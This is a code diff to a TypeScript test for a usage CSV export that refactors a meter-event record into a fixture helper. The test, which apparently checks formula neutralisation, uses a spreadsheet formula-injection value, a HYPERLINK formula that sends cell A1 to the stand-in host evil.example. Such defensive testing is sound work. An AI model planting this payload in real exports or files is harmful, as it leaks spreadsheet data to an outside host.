@@ -3,6 +3,7 @@
 import { expect } from 'chai';
 import { api, createAgent, type TestPlatform, type TestUser } from '../support/test-platform';
 import { platformWithOwner } from '../support/platform-with-owner';
+import { meterEventFixture } from '../support/meter-events';
 import { neutralizeFormula } from '../../server/metering/usage.service';
 
 describe('usage CSV export', function () {
@@ -23,28 +24,20 @@ describe('usage CSV export', function () {
     // An own-key agent: its model is in its export (a managed call's model is left out of the customer's file).
     const agent = await createAgent(platform.url, owner, { mode: 'byok', provider: 'custom', model: 'any-model', apiKey: 'custom-endpoint-key', baseUrl: 'https://llm.example.com/v1' });
     const model = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
-    platform.platform.meter.record({
-      requestId: `req_csv_${agent.id}`,
-      agentId: agent.id,
-      workspaceId: owner.workspace.id,
-      timestamp: new Date(),
-      provider: 'custom',
-      model,
-      tier: null,
-      mode: 'byok',
-      plan: null,
-      requestType: 'chat',
-      status: 'ok',
-      usageSource: 'provider',
-      tokensInput: 10,
-      tokensOutput: 5,
-      latencyMs: 3,
-      credential: 'byok:test',
-      sandbox: true,
-      attempt: 1,
-      priceSnapshot: { inputUsdPerMillion: 1, outputUsdPerMillion: 2, overageUsdPerMillion: 3, includedTokens: 1_000_000 },
-      countsAsRequest: true,
-    });
+    platform.platform.meter.record(
+      meterEventFixture({
+        requestId: `req_csv_${agent.id}`,
+        agentId: agent.id,
+        workspaceId: owner.workspace.id,
+        provider: 'custom',
+        model,
+        tier: null,
+        mode: 'byok',
+        plan: null,
+        credential: 'byok:test',
+        priceSnapshot: { inputUsdPerMillion: 1, outputUsdPerMillion: 2, overageUsdPerMillion: 3, includedTokens: 1_000_000 },
+      }),
+    );
     await platform.platform.meter.drain();
     const month = new Date().toISOString().slice(0, 7);
     const csv = await api(platform.url, 'GET', `/api/workspaces/${owner.workspace.id}/usage/export.csv?month=${month}`, { token: owner.token });
